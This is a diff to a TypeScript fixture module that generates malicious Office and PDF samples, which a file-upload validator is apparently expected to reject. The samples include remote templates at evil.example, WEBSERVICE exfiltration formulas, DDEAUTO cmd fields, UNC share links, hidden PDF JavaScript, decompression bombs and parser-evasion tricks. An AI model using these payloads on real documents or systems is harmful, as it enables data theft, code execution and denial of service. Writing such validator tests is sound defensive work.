@@ -1,6 +1,6 @@
 /** Files that must not be kept, made here so that none of them lies in the repository. */
 import { randomBytes } from "node:crypto";
-import { crc32, deflateSync } from "node:zlib";
+import { constants, crc32, deflateRawSync, deflateSync } from "node:zlib";
 import { PDFDocument } from "@cantoo/pdf-lib";
 import type { RejectionReason } from "@portal/core/file-formats/rejection-reasons";
 import { strToU8, zipSync } from "fflate";
@@ -206,6 +206,48 @@ export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFi
       reasons: ["officeLinked"],
     },
     {
+      name: "a template from elsewhere, under a prefix of other letters",
+      bytes: buildOfficeDocument(type, {
+        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm")
+          .replace("<Relationships>", '<格:Relationships xmlns:格="urn:relationships">')
+          .replace("<Relationship ", "<格:Relationship ")
+          .replace("</Relationships>", "</格:Relationships>"),
+      }),
+      reasons: ["officeLinked"],
+    },
+    {
+      name: "a template from elsewhere, beside an attribute of another vocabulary",
+      bytes: buildOfficeDocument(type, {
+        [rels]: buildRelations("attachedTemplate", "https://evil.example/t.dotm").replace(
+          "/></",
+          ' z:TargetMode="Internal" z:Type="x/hyperlink"/></',
+        ),
+      }),
+      reasons: ["officeLinked"],
+    },
+    {
+      name: "a template from elsewhere, as a part of its own",
+      bytes: buildOfficeDocument(type, {
+        [rels]: buildRelations("attachedTemplate", "file://evil.example/t.dotm", "Internal"),
+      }),
+      reasons: ["officeLinked"],
+    },
+    {
+      name: "a picture from elsewhere, in an old drawing",
+      bytes: buildOfficeDocument(type, {
+        [`${folder}/drawings/vmlDrawing1.vml`]:
+          '<v:shape><v:imagedata src="//evil.example/p.png"/></v:shape>',
+      }),
+      reasons: ["officeLinked"],
+    },
+    {
+      name: "a link to a share, in an old drawing",
+      bytes: buildOfficeDocument(type, {
+        [`${folder}/drawings/vmlDrawing1.vml`]: '<v:shape href="file://evil.example/share" r:href="rId1"/>',
+      }),
+      reasons: ["officeLinked"],
+    },
+    {
       name: "entities of its own",
       bytes: buildOfficeDocument(type, {
         [`${folder}/a.xml`]: '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>',
@@ -259,6 +301,55 @@ export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFi
             name: "a formula that links to a program",
             bytes: buildOfficeDocument(type, {
               "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("ms-msdt:"&amp;A1)</f></c>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula that links to a share, in pieces",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml":
+                '<c><f>HYPERLINK("\\"&amp;CHAR(92)&amp;"evil\\share","invoice")</f></c>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula that sends data away, on a sheet in another folder",
+            bytes: buildOfficeDocument(type, { "docProps/sheet1.xml": "<c><f>WEBSERVICE(A1)</f></c>" }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula that sends data away, on a sheet that is called a picture",
+            bytes: buildOfficeDocument(type, {
+              "xl/media/image1.png": "\ufeff <c><f>WEBSERVICE(A1)</f></c>",
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula that sends data away, under a prefix of other letters",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml": "<表:c><表:f>WEBSERVICE(A1)</表:f></表:c>",
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula that sends data away, around an element that Excel skips",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml": "<c><f>WEB<z:a/>SERVICE(A1)</f></c>",
+            }),
+            reasons: ["fileBroken"],
+          },
+          {
+            name: "a formula that computes a formula",
+            bytes: buildOfficeDocument(type, {
+              "xl/workbook.xml":
+                '<workbook><definedName name="a">EVALUATE("WEB"&amp;"SERVICE(Sheet1!A1)")</definedName></workbook>',
+            }),
+            reasons: ["officeMacro"],
+          },
+          {
+            name: "a formula behind spaces without an end",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml": `<c><f ${" ".repeat(100_000)}<f>WEBSERVICE(A1)</f></c>`,
             }),
             reasons: ["officeLinked"],
           },
@@ -317,6 +408,68 @@ export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFi
             reasons: ["officeLinked"],
           },
           {
+            name: "a field that links to a share, in curly quotes",
+            bytes: buildOfficeDocument(type, {
+              "word/document.xml": '<w:fldSimple w:instr=" HYPERLINK “\\\\evil\\share” "/>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that starts a program, in a foot in another folder",
+            bytes: buildOfficeDocument(type, {
+              "docProps/footer1.xml": '<w:ftr><w:fldSimple w:instr="DDEAUTO cmd"/></w:ftr>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that starts a program, in a foot that is called a picture",
+            bytes: buildOfficeDocument(type, {
+              "word/media/image1.png": Buffer.from(
+                '\ufeff<w:ftr><w:fldSimple w:instr="DDEAUTO cmd"/></w:ftr>',
+                "utf16le",
+              ),
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that starts a program, under a prefix of other letters",
+            bytes: buildOfficeDocument(type, {
+              "word/document.xml": '<文:p><文:fldSimple 文:instr="DDEAUTO cmd"/></文:p>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that starts a program, beside an attribute of another vocabulary",
+            bytes: buildOfficeDocument(type, {
+              "word/document.xml": '<w:p><w:fldSimple w:instr="DDEAUTO cmd" z:instr="PAGE"/></w:p>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that starts a program, whose beginning another vocabulary calls something else",
+            bytes: buildOfficeDocument(type, {
+              "word/document.xml":
+                '<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE </w:instrText><w:fldChar w:fldCharType="begin" z:fldCharType="separate"/><w:instrText>DDEAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>',
+            }),
+            reasons: ["fileBroken"],
+          },
+          {
+            name: "a field that starts a program, around an element that Word skips",
+            bytes: buildOfficeDocument(type, {
+              "word/document.xml":
+                '<w:fldChar w:fldCharType="begin"/><w:instrText>D<z:a/>DEAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
+            }),
+            reasons: ["fileBroken"],
+          },
+          {
+            name: "form letters with a database",
+            bytes: buildOfficeDocument(type, {
+              "word/settings.xml":
+                '<w:settings><w:mailMerge><w:connectString w:val="Provider=MSDASQL;Data Source=\\\\evil\\a"/></w:mailMerge></w:settings>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
             name: "a field whose name is computed",
             bytes: buildOfficeDocument(type, {
               "word/document.xml":
@@ -348,6 +501,15 @@ export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFi
     },
   ];
 };
+
+/** A record of an old workbook that links to an address. */
+export const buildAddressRecord = (address: string): Buffer =>
+  Buffer.concat([
+    Buffer.alloc(32),
+    Buffer.from("e0c9ea79f9bace118c8200aa004ba90b", "hex"),
+    Buffer.alloc(4),
+    Buffer.from(`${address}\0`, "utf16le"),
+  ]);
 
 /** Old binary documents: honest ones by `compound.ts`. */
 export const buildOldOfficeAttacks = (type: typeof XLS | typeof DOC): MaliciousFile[] => {
@@ -401,12 +563,64 @@ export const buildOldOfficeAttacks = (type: typeof XLS | typeof DOC): MaliciousF
             }),
             reasons: ["officeLinked"],
           },
+          {
+            name: "a link to a file",
+            bytes: buildCompoundFile({
+              Workbook: buildMainStream(XLS, [
+                [
+                  0x1b8,
+                  Buffer.concat([Buffer.alloc(32), Buffer.from("0303000000000000c000000000000046", "hex")]),
+                ],
+              ]),
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a link to a program",
+            bytes: buildCompoundFile({
+              Workbook: buildMainStream(XLS, [[0x1b8, buildAddressRecord("ms-msdt:/id")]]),
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a link to a share",
+            bytes: buildCompoundFile({
+              Workbook: buildMainStream(XLS, [
+                [0x1b8, Buffer.concat([Buffer.alloc(32), Buffer.from("\\\\evil\\share\0", "utf16le")])],
+              ]),
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a function that sends data away",
+            bytes: buildCompoundFile({
+              Workbook: buildMainStream(XLS, [[0x23, Buffer.from("\0\0\0\0\0\0\u0010\0_xlfn.WEBSERVICE")]]),
+            }),
+            reasons: ["officeLinked"],
+          },
         ] as const)
       : ([
           {
             name: "a field that starts a program",
             bytes: buildCompoundFile({
               WordDocument: Buffer.concat([content, Buffer.from("\u0013 DDEAUTO cmd.exe")]),
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that takes in another document",
+            bytes: buildCompoundFile({
+              WordDocument: Buffer.concat([content, Buffer.from("\u0013 RD c:\\a.doc\u0015")]),
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that links to a share",
+            bytes: buildCompoundFile({
+              WordDocument: Buffer.concat([
+                content,
+                Buffer.from('\u0013 HYPERLINK "\\\\evil\\share" \u0014invoice\u0015', "utf16le"),
+              ]),
             }),
             reasons: ["officeLinked"],
           },
@@ -452,6 +666,79 @@ const buildObjectStream = (object: string): Buffer => {
   return buildFlateStream(`/Type /ObjStm /N 1 /First ${head.length}`, `${head}${object}`);
 };
 
+/** A stream whose bytes are as they are given, under a filter. */
+export const buildFilteredStream = (filter: string, data: Uint8Array): Buffer =>
+  Buffer.concat([
+    Buffer.from(`<< /Length ${data.length} /Filter ${filter} >>\nstream\n`),
+    data,
+    Buffer.from("\nendstream"),
+  ]);
+const packedMegabyte = deflateRawSync(Buffer.alloc(1 << 20), { finishFlush: constants.Z_FULL_FLUSH });
+/** Deflated zeros, put together from one megabyte, with a checksum that is wrong. */
+const packZeros = (megabytes: number): Buffer =>
+  Buffer.concat([
+    Buffer.from("789c", "hex"),
+    ...Array.from({ length: megabytes }, () => packedMegabyte),
+    Buffer.from("030000000000", "hex"),
+  ]);
+/** Zeros as LZW codes: each one stands for one zero more than the one before it, and the last one for 3,838. */
+export const buildLzwZeros = (lastCodes: number): Buffer => {
+  const bits: string[] = [];
+  let [width, next] = [9, 258];
+  const addCode = (code: number): void => {
+    bits.push(code.toString(2).padStart(width, "0"));
+  };
+  addCode(256);
+  addCode(0);
+  while (next < 4096) {
+    if (next + 1 >= 1 << width && width < 12) width += 1;
+    addCode(next);
+    next += 1;
+  }
+  for (let n = 0; n < lastCodes; n += 1) addCode(4095);
+  addCode(257);
+  return Buffer.from(
+    (bits.join("").match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, "0"), 2)),
+  );
+};
+/** Bytes as letters (ISO 32000-2 › 7.4.3), without the short form of zeros. */
+export const encodeAscii85 = (bytes: Uint8Array): string => {
+  const groups: string[] = [];
+  for (let at = 0; at < bytes.length; at += 4) {
+    const group = Buffer.alloc(4);
+    group.set(bytes.subarray(at, at + 4));
+    let value = group.readUInt32BE();
+    const letters = Array.from({ length: 5 }, () => {
+      const letter = String.fromCharCode(33 + (value % 85));
+      value = Math.floor(value / 85);
+      return letter;
+    });
+    groups.push(
+      letters
+        .reverse()
+        .join("")
+        .slice(0, Math.min(bytes.length - at, 4) + 1),
+    );
+  }
+  return groups.join("");
+};
+/** A file whose latest table of objects names an earlier one, which stands inside a stream. */
+const buildPdfWithHiddenTable = (): Buffer => {
+  const table = Buffer.from("xref\n6 1\n0000000009 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R >>\n");
+  const pdf = buildOnePagePdf({
+    more: [
+      Buffer.concat([
+        Buffer.from(`<< /Length ${table.length} >>\nstream\n`),
+        table,
+        Buffer.from("\nendstream"),
+      ]),
+    ],
+    trailer: "/Prev 0000000000",
+  });
+  const offset = String(pdf.indexOf("xref\n6 1")).padStart(10, "0");
+  return Buffer.from(pdf.toString("latin1").replace("/Prev 0000000000", `/Prev ${offset}`), "latin1");
+};
+
 export const buildPdfAttacks = async (): Promise<MaliciousFile[]> => {
   const attachmentPdf = await PDFDocument.create();
   attachmentPdf.addPage();
@@ -482,7 +769,89 @@ export const buildPdfAttacks = async (): Promise<MaliciousFile[]> => {
       ),
     "latin1",
   );
+  const zeros = packZeros(270);
+  const streamWithWrongChecksum = buildFilteredStream("/FlateDecode", packZeros(200));
+  const damagedZeros = packZeros(200);
+  const damagedStream = buildFilteredStream("/FlateDecode", damagedZeros.fill(255, damagedZeros.length - 24));
   const cases: [string, Uint8Array, ...RejectionReason[]][] = [
+    ["an earlier table of objects inside a stream", buildPdfWithHiddenTable(), "fileBroken"],
+    ["a script in a stream, where a repair finds it", pdfWithHiddenScript, "fileBroken"],
+    [
+      "a script in a comment, where a repair finds it",
+      addDefinition(validPdf, "%7 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n"),
+      "fileBroken",
+    ],
+    [
+      "a script in a text, where a repair finds it",
+      buildOnePagePdf({ more: ["(endobj 7 0 obj << /S /JavaScript /JS (a) >> endobj)"] }),
+      "fileBroken",
+    ],
+    [
+      "a base of its links on a share, told elsewhere",
+      buildOnePagePdf({ catalogue: "/URI << /Base 5 0 R >>", more: ["(file://evil/share/)"] }),
+      "pdfScript",
+    ],
+    ["a number without an end", buildOnePagePdf({ more: [`[${"1".repeat(200_000)}x]`] }), "fileBroken"],
+    [
+      "a bomb of two streams whose checksums are wrong",
+      buildOnePagePdf({ more: [streamWithWrongChecksum, streamWithWrongChecksum] }),
+      "fileUnpacked",
+    ],
+    [
+      "a bomb of two streams that are damaged at their ends",
+      buildOnePagePdf({ more: [damagedStream, damagedStream] }),
+      "fileUnpacked",
+    ],
+    [
+      "a bomb written in digits",
+      buildOnePagePdf({
+        more: [
+          buildFilteredStream("[/ASCIIHexDecode /FlateDecode]", Buffer.from(`${zeros.toString("hex")}>`)),
+        ],
+      }),
+      "fileUnpacked",
+    ],
+    [
+      "a bomb written in letters",
+      buildOnePagePdf({
+        more: [buildFilteredStream("[/A85 /Fl]", Buffer.from(`${encodeAscii85(zeros)}~>`))],
+      }),
+      "fileUnpacked",
+    ],
+    [
+      "a bomb of LZW",
+      buildOnePagePdf({ more: [buildFilteredStream("/LZWDecode", buildLzwZeros(75_000))] }),
+      "fileUnpacked",
+    ],
+    [
+      "a bomb of runs",
+      buildOnePagePdf({
+        more: [
+          buildFilteredStream("/RunLengthDecode", Buffer.alloc(4.5 * 1024 * 1024, Buffer.from([129, 0]))),
+        ],
+      }),
+      "fileUnpacked",
+    ],
+    [
+      "a picture larger than any paper, whose size stands elsewhere",
+      buildOnePagePdf({
+        more: [buildFlateStream("/Type /XObject /Subtype /Image /Width 6 0 R /Height 6 0 R", "x"), "60000"],
+      }),
+      "imagePixels",
+    ],
+    [
+      "a photograph larger than it is called",
+      buildOnePagePdf({
+        more: [
+          Buffer.concat([
+            Buffer.from("<< /Length 24 /Filter /DCTDecode /Subtype /Image /Width 9 /Height 9 >>\nstream\n"),
+            Buffer.from("ffd8ffc0001108ea60ea6003".padEnd(48, "0"), "hex"),
+            Buffer.from("\nendstream"),
+          ]),
+        ],
+      }),
+      "imagePixels",
+    ],
     [
       "a script as it opens",
       buildOnePagePdf({ catalogue: buildOpenAction("/S /JavaScript /JS (app.alert\\(1\\))") }),
